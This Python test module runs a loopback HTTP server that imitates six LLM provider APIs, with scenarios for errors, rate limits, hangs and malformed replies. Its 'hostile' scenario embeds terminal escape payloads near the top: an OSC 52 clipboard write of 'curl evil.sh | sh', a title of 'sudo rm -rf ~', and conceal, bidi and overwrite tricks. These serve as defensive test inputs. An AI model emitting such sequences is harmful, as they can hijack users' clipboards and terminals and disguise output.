"""A real loopback HTTP server that speaks the six provider protocols, with scenario routes, for tests.

Routes (by path; any path may be prefixed with /scenario/<name> to pick a scenario per request):

    POST /chat/completions, /v1/chat/completions   openai      POST /v2/chat                cohere
    POST /v1/messages                              anthropic   POST /api/chat               ollama
    POST /models/<model>:generateContent (any prefix, e.g. /v1beta/...)      gemini
    GET  /health, POST /generate                   hf-space
    GET  /_control/state, POST /_control/scenario {"scenario": ...}, POST /_control/reset

Scenarios (`server.scenario = ...`):

    ok, prose, fenced, think, invalid   200 with a report: clean, wrapped in prose, ```json fenced,
                                         after a <think> block, or one that fails the schema
    hostile                              200 with a report whose text carries terminal escape sequences
                                         (OSC 52 clipboard, title set, clear screen, conceal, C1 CSI, bidi)
    empty                                200 with an envelope holding no text (blocked, refused)
    garbage                              200 with an HTML body
    <status>                             e.g. 500, 503, 401, 403, 400, 404: that status, shaped like the API
    429, 429-date                        429 with Retry-After: 2, or an HTTP-date about 2 s ahead
    hang                                 no answer for up to `hang_seconds` (5), then ok
    health-hang                          the hf-space /health route hangs instead
    flaky:N                              the first N generation requests answer 500, then ok
    latency:MS                           ok after MS milliseconds
    asleep:N                             hf-space /health answers 503 N times, then 200

A refused connection is a closed port: `refused_url()`.

From another test module: `from tests.provider_server import provider_server` (fixture), or
`pytest_plugins = ["tests.provider_server"]` in a conftest. From a script or benchmark:

    python -m tests.provider_server --port 8765 --scenario ok     # prints "listening on http://..."
"""

from __future__ import annotations

import argparse
import contextlib
import json
import math
import re
import signal
import socket
import socketserver
import threading
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from email.utils import formatdate
from http import HTTPStatus
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import unquote

try:
    import pytest
except ImportError:  # the server also runs as a plain script
    pytest = None  # type: ignore[assignment]

REPORT: dict[str, Any] = {
    "title": "Retry provider calls with jittered backoff",
    "summary": "Provider calls now retry transient failures with exponential backoff and jitter, "
    "and give up once the per-report deadline is spent.",
    "changes": ["Add a retry wrapper around providers", "Honour Retry-After on 429 replies"],
    "rationale": "Transient 5xx and 429 replies made whole reports fall back to the local analyzer.",
    "impact_and_tests": "Covered by loopback-server tests for 500, 429 and timeouts.",
    "next_steps": ["Share breaker state across processes"],
    "tags": ["resilience", "providers"],
}
INVALID_REPORT: dict[str, Any] = {"title": "short", "summary": "too short", "changes": []}
# What a prompt-injected model can send back: each sequence acts on a terminal that prints it raw.
HOSTILE_SEQUENCES = {
    "osc52": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",  # write "curl evil.sh | sh" to the clipboard
    "title": "\x1b]0;sudo rm -rf ~\x1b\\",  # set the window title (ST-terminated)
    "clear": "\x1b[2J\x1b[H",  # clear the screen, cursor home
    "conceal": "\x1b[8m",  # hide what follows
    "c1_csi": "\x9b31m",  # the 8-bit form of CSI
    "dcs": "\x1bP+q544e\x1b\\",  # a DCS query (XTGETTCAP)
    "bidi": "\u202e",  # right-to-left override
    "cr": "\r",  # return to column 0 and overwrite
}
HOSTILE_REPORT: dict[str, Any] = {
    **REPORT,
    "title": f"Retry provider calls{HOSTILE_SEQUENCES['title']} with backoff{HOSTILE_SEQUENCES['conceal']}",
    "summary": REPORT["summary"] + HOSTILE_SEQUENCES["osc52"] + HOSTILE_SEQUENCES["clear"],
    "changes": [f"Add a retry wrapper{HOSTILE_SEQUENCES['c1_csi']}", f"Honour Retry-After{HOSTILE_SEQUENCES['dcs']}"],
    "rationale": REPORT["rationale"] + HOSTILE_SEQUENCES["bidi"] + "exe.txt" + HOSTILE_SEQUENCES["cr"] + "Approved.",
}
HANG_SECONDS = 5.0

ROUTES: list[tuple[str, re.Pattern[str]]] = [
    ("openai", re.compile(r"^(/v1)?/chat/completions$")),
    ("anthropic", re.compile(r"^/v1/messages$")),
    ("gemini", re.compile(r"^(/[^:]*)?/models/[^/:]+:generateContent$")),
    ("cohere", re.compile(r"^/v2/chat$")),
    ("ollama", re.compile(r"^/api/chat$")),
    ("hf-generate", re.compile(r"^/generate$")),
    ("hf-health", re.compile(r"^/health$")),
]
GEMINI_STATUS = {
    400: "INVALID_ARGUMENT",
    401: "UNAUTHENTICATED",
    403: "PERMISSION_DENIED",
    404: "NOT_FOUND",
    429: "RESOURCE_EXHAUSTED",
    500: "INTERNAL",
    503: "UNAVAILABLE",
}
ANTHROPIC_TYPE = {400: "invalid_request_error", 401: "authentication_error", 403: "permission_error",
                  404: "not_found_error", 429: "rate_limit_error", 529: "overloaded_error"}  # fmt: skip


@dataclass
class RecordedRequest:
    """One request as it was on the wire."""

    method: str
    path: str
    query: str
    headers: dict[str, str]
    body: bytes
    json: Any
    scenario: str
    protocol: str | None


@dataclass
class Reply:
    status: int
    body: Any
    headers: dict[str, str] = field(default_factory=dict)
    delay: float = 0.0


def report_text(scenario: str) -> str:
    """Return the model text a scenario stands for."""
    clean = json.dumps(REPORT)
    return {
        "prose": f"Sure! Here is the report you asked for:\n{clean}\nLet me know if you need anything else.",
        "fenced": f"Here it is.\n```json\n{json.dumps(REPORT, indent=2)}\n```\n",
        "think": f"<think>The diff adds a retry wrapper; summarise that.</think>\n{clean}",
        "invalid": json.dumps(INVALID_REPORT),
        "hostile": json.dumps(HOSTILE_REPORT),
    }.get(scenario, clean)


def envelope(protocol: str, text: str | None, request: Any) -> Any:
    """Wrap model text (None: no text at all) the way each real API does on success."""
    req = request if isinstance(request, dict) else {}
    model = req.get("model", "test-model")
    if protocol == "openai":
        message = {
            "role": "assistant",
            "content": text,
            "refusal": None if text else "I can't help with that.",
        }
        return {
            "id": "chatcmpl-test",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": model,
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30},
        }
    if protocol == "anthropic":
        if text is None:
            blocks: list[dict[str, Any]] = []
        elif req.get("tool_choice", {}).get("type") == "tool" and text.startswith("{"):
            name = req["tool_choice"]["name"]
            blocks = [{"type": "tool_use", "id": "toolu_test", "name": name, "input": json.loads(text)}]
        else:
            blocks = [{"type": "text", "text": text}]
        return {
            "id": "msg_test",
            "type": "message",
            "role": "assistant",
            "model": model,
            "content": blocks,
            "stop_reason": "tool_use" if blocks and blocks[0]["type"] == "tool_use" else "end_turn",
            "stop_sequence": None,
            "usage": {"input_tokens": 10, "output_tokens": 20},
        }
    if protocol == "gemini":
        if text is None:
            return {"promptFeedback": {"blockReason": "SAFETY"}, "usageMetadata": {"promptTokenCount": 10}}
        return {
            "candidates": [
                {"content": {"parts": [{"text": text}], "role": "model"}, "finishReason": "STOP", "index": 0}
            ],
            "usageMetadata": {"promptTokenCount": 10, "candidatesTokenCount": 20, "totalTokenCount": 30},
            "modelVersion": "gemini-test",
        }
    if protocol == "cohere":
        content = [] if text is None else [{"type": "text", "text": text}]
        return {
            "id": "cohere-test",
            "finish_reason": "COMPLETE",
            "message": {"role": "assistant", "content": content},
            "usage": {"billed_units": {"input_tokens": 10, "output_tokens": 20}},
        }
    if protocol == "ollama":
        return {
            "model": model,
            "created_at": "2025-01-01T00:00:00Z",
            "message": {"role": "assistant", "content": text or ""},
            "done": True,
            "done_reason": "stop",
        }
    return {} if text is None else {"text": text}


def error_body(protocol: str, status: int) -> Any:
    """Return an error body shaped as each real API shapes it."""
    phrase = HTTPStatus(status).phrase if status in HTTPStatus._value2member_map_ else "Error"
    message = f"simulated HTTP {status} ({phrase})"
    if protocol == "openai":
        return {
            "error": {
                "message": message,
                "type": "server_error" if status >= 500 else "invalid_request_error",
                "param": None,
                "code": None,
            }
        }
    if protocol == "anthropic":
        return {
            "type": "error",
            "error": {"type": ANTHROPIC_TYPE.get(status, "api_error"), "message": message},
        }
    if protocol == "gemini":
        return {"error": {"code": status, "message": message, "status": GEMINI_STATUS.get(status, "UNKNOWN")}}
    if protocol == "cohere":
        return {"id": "cohere-error", "message": message}
    return {"error": message}


def respond(protocol: str, scenario: str, count: int, request: Any) -> Reply:
    """Decide the reply to a generation request under a scenario (count: its number in that scenario)."""
    name, _, arg = scenario.partition(":")
    if name == "flaky" and count <= int(arg or 1):
        return Reply(500, error_body(protocol, 500))
    if name == "latency":
        return Reply(200, envelope(protocol, report_text("ok"), request), delay=int(arg or 0) / 1000)
    if name == "hang":
        return Reply(200, envelope(protocol, report_text("ok"), request), delay=math.inf)
    if name == "429":
        return Reply(429, error_body(protocol, 429), {"Retry-After": "2"})
    if name == "429-date":
        return Reply(
            429,
            error_body(protocol, 429),
            {"Retry-After": formatdate(math.ceil(time.time()) + 2, usegmt=True)},
        )
    if name.isdigit():
        return Reply(int(name), error_body(protocol, int(name)))
    if name == "garbage":
        return Reply(200, b"<html><body>Gateway says hello</body></html>", {"Content-Type": "text/html"})
    if name == "empty":
        return Reply(200, envelope(protocol, None, request))
    return Reply(200, envelope(protocol, report_text(name), request))


def respond_health(scenario: str, count: int) -> Reply:
    """Decide the reply to an hf-space health check."""
    name, _, arg = scenario.partition(":")
    if name == "asleep" and count <= int(arg or 1):
        return Reply(503, {"error": "Space is building"})
    if name == "health-hang":
        return Reply(200, {"status": "ok"}, delay=math.inf)
    return Reply(200, {"status": "ok"})


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    owner: ProviderServer

    def server_bind(self) -> None:
        """Bind without HTTPServer's reverse DNS lookup of the host (slow where DNS is unreachable)."""
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = str(self.server_address[0]), int(self.server_address[1])

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Stay quiet about clients that hung up (timeouts are the point of some scenarios)."""


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True  # headers and body go out in two writes; Nagle would delay the second
    server: _Server

    def do_GET(self) -> None:
        self._handle()

    def do_POST(self) -> None:
        self._handle()

    def log_message(self, format: str, *args: Any) -> None:
        """Silence the default stderr log."""

    def _handle(self) -> None:
        owner = self.server.owner
        raw = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        try:
            data = json.loads(raw) if raw else None
        except ValueError:
            data = None
        path, _, query = self.path.partition("?")
        scenario = owner.scenario
        if match := re.match(r"^/scenario/([^/]+)(/.*)$", path):
            scenario, path = unquote(match.group(1)), match.group(2)
        if path.startswith("/_control/"):
            self._send(owner.control(self.command, path, data))
            return
        protocol = next((name for name, pattern in ROUTES if pattern.match(path)), None)
        count = owner.record(
            RecordedRequest(
                self.command,
                path,
                query,
                {k.lower(): v for k, v in self.headers.items()},
                raw,
                data,
                scenario,
                protocol,
            )
        )
        if protocol is None or (protocol == "hf-health") != (self.command == "GET"):
            self._send(Reply(404, {"error": f"no route for {self.command} {path}"}))
        elif protocol == "hf-health":
            self._send(respond_health(scenario, count))
        else:
            self._send(respond(protocol.removeprefix("hf-"), scenario, count, data))

    def _send(self, reply: Reply) -> None:
        if reply.delay:
            self.server.owner.stopping.wait(min(reply.delay, self.server.owner.hang_seconds))
        body = reply.body if isinstance(reply.body, bytes) else json.dumps(reply.body).encode()
        headers = {"Content-Type": "application/json", **reply.headers, "Content-Length": str(len(body))}
        try:
            self.send_response(reply.status)
            for key, value in headers.items():
                self.send_header(key, value)
            self.end_headers()
            self.wfile.write(body)
        except OSError:  # the client gave up (timed out) before the answer
            self.close_connection = True


class ProviderServer:
    """The loopback server: `.url`, `.scenario`, `.requests` (what was on the wire), `.counts`."""

    def __init__(
        self, host: str = "127.0.0.1", port: int = 0, scenario: str = "ok", hang_seconds: float = HANG_SECONDS
    ) -> None:
        self.scenario = scenario
        self.hang_seconds = hang_seconds
        self.requests: list[RecordedRequest] = []
        self.counts: Counter[str] = Counter()
        self.stopping = threading.Event()
        self._lock = threading.Lock()
        self._httpd = _Server((host, port), _Handler)
        self._httpd.owner = self
        self._host = host
        self._thread: threading.Thread | None = None

    @property
    def port(self) -> int:
        return int(self._httpd.server_address[1])

    @property
    def url(self) -> str:
        return f"http://{self._host}:{self.port}"

    def scenario_url(self, scenario: str, path: str = "") -> str:
        """Return a base URL that forces `scenario` whatever `.scenario` says (for multi-provider chains)."""
        return f"{self.url}/scenario/{scenario}{path}"

    def record(self, request: RecordedRequest) -> int:
        """Keep a request; return its number among requests of its kind under its scenario."""
        key = f"health:{request.scenario}" if request.protocol == "hf-health" else request.scenario
        with self._lock:
            self.requests.append(request)
            self.counts[key] += 1
            return self.counts[key]

    @property
    def last(self) -> RecordedRequest:
        return self.requests[-1]

    def reset(self) -> None:
        with self._lock:
            self.requests.clear()
            self.counts.clear()

    def control(self, method: str, path: str, data: Any) -> Reply:
        """Answer the /_control routes used by other processes."""
        if method == "POST" and path == "/_control/scenario" and isinstance(data, dict):
            self.scenario = str(data.get("scenario", "ok"))
        elif method == "POST" and path == "/_control/reset":
            self.reset()
        elif path != "/_control/state":
            return Reply(404, {"error": f"no control route {path}"})
        return Reply(200, {"scenario": self.scenario, "counts": dict(self.counts), "requests": len(self.requests)})

    def start(self) -> ProviderServer:
        self._thread = threading.Thread(
            target=self._httpd.serve_forever,
            kwargs={"poll_interval": 0.01},
            name=f"provider-server-{self.port}",
            daemon=True,
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        """Release hanging handlers, stop serving and close the socket."""
        self.stopping.set()
        if self._thread is not None:
            self._httpd.shutdown()
            self._thread.join(timeout=5)
        self._httpd.server_close()

    def __enter__(self) -> ProviderServer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


def closed_port() -> int:
    """Return a loopback port nothing listens on (connections to it are refused)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def refused_url() -> str:
    """Return a base URL whose connections are refused (the `refuse` scenario)."""
    return f"http://127.0.0.1:{closed_port()}"


if pytest is not None:

    @pytest.fixture
    def provider_server() -> Iterator[ProviderServer]:
        """A running loopback provider server, scenario "ok", stopped after the test."""
        with ProviderServer() as server:
            yield server


def main(argv: list[str] | None = None) -> None:
    """Serve until killed (SIGTERM or Ctrl-C)."""
    parser = argparse.ArgumentParser(prog="python -m tests.provider_server", description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0, help="0 picks a free port (printed on stdout)")
    parser.add_argument("--scenario", default="ok")
    parser.add_argument("--hang-seconds", type=float, default=HANG_SECONDS)
    args = parser.parse_args(argv)
    server = ProviderServer(args.host, args.port, args.scenario, args.hang_seconds)
    done = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: done.set())
    with server:
        print(f"listening on http://{args.host}:{server.port}", flush=True)
        with contextlib.suppress(KeyboardInterrupt):
            while not done.wait(0.2):
                pass


if __name__ == "__main__":
    main()
